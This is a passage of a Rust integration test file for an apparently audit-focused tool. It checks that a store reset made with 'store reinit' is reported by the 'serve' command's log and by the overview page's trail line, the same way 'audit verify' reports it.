    assert_eq!(statuses(&answers), ["200", "431"], "{answers}");
    server.stop();
}

/// Issue 15 (review r29-store2): a store reset (`store reinit`) made before `serve`
/// starts is said by `serve` as `audit verify` says it, on its log and on the overview's
/// trail line (before, `serve`'s whole verification gathered only the console's bindings
/// and said no store reset at all).
#[test]
fn a_store_reset_on_the_trail_is_said_by_serve_as_audit_verify_says_it() {
    let env = Env::new();
    env.profile(&[]);
    std::fs::remove_file(env.home.join("pacsguard.db")).expect("the store deleted");
    let out = env.run(&["store", "reinit", "--reason", "INC-15: store lost"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    env.profile(&[]);
    let out = env.run(&["audit", "verify"]);
    let resets: Vec<String> = stdout(&out)
        .lines()
        .filter(|l| l.starts_with("store-reset "))
        .map(str::to_string)
        .collect();
    assert_eq!(resets.len(), 1, "{}", stdout(&out));
    assert!(resets[0].contains("INC-15: store lost"), "{resets:?}");

    let server = Server::start(&env, &[]);
    let said = server.stderr();
    assert!(
        said.contains(&resets[0]),
        "serve did not say {:?}: {said}",
        resets[0]
    );
    first_admin(&server);
    let (status, _, body) = server.curl("GET", "/", &[]);
    assert_eq!(status, 200, "{body}");
    let at = body.find("<span id=\"trail\">").expect("the trail line");
    let trail = &body[at..at + body[at..].find("</p>").expect("its end")];
    assert!(
        trail.contains("1 store reset") && trail.contains("INC-15: store lost"),
        "the overview's trail line: {trail}"
    );
    server.stop();
}
